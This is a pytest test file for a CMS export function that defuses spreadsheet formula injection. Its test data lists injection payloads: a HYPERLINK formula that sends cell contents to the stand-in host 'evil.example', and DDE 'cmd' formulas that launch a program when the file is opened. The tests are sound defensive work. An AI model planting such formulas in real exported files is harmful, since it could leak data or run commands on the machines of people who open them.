"""No text becomes a formula, and every text of ours comes back as it was."""

import random
import time

import pytest

from cms.outgoing.cells import NUMBER, as_typed, cell, harmless

# OWASP's, and those that look innocent until the file is opened with another separator.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "\x0b=1+1",
    "\uff1d1+1",
    "Hei;=1+1",
    'Hei; "=1+1',
    "Hei,@SUM(A1)",
    "Hei\t=1+1",
    "Hei\n=1+1",
    "Hei\r\n;;+cmd|' /C calc'!A0",
]


def cells_of(text: str) -> list[str]:
    """The cells that some spreadsheet could make of it, without what it overlooks before them."""
    for separator in ";,\t\r\n":
        text = text.replace(separator, "\0")
    return [part.strip(' "\x0b\x0c\x1f') for part in text.split("\0")]


def is_formula(text: str) -> bool:
    return any(part.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20")) for part in cells_of(text))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert is_formula(text)
    assert not is_formula(harmless(text))
    assert harmless(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text", ["-5", "+358 40 123 4567", "-1 234,50", "3.14", "a = b", "2-3", "x@example.fi", "'90", ""]
)
def test_what_is_no_formula_stays_as_it_is(text):
    assert harmless(text) == text


@pytest.mark.parametrize("value", [0, -5, 2.5, None, True])
def test_numbers_stay_numbers(value):
    assert cell(value) is value


def test_every_text_comes_back_as_it_was():
    """Before, the glossary's import took an apostrophe off any term that had one of its own: `'90-luku`."""
    chance = random.Random(8)  # noqa: S311  texts, not secrets
    pieces = ["'", "''", "=", "+", "-", "@", ";", ",", "\t", "\n", '"', " ", "a", "5", "\uff1d"]
    for _round in range(20_000):
        text = "".join(chance.choices(pieces, k=chance.randint(0, 9)))
        assert as_typed(harmless(text)) == text, repr(text)
        assert NUMBER.fullmatch(text) or not is_formula(harmless(text)), repr(text)


@pytest.mark.parametrize("piece", ["\n", "'", ";'", " ", '"', "\n'"])
def test_a_text_made_to_be_slow_is_not(piece):
    started = time.process_time()
    harmless(piece * 300_000)
    as_typed(piece * 300_000)
    assert time.process_time() - started < 2
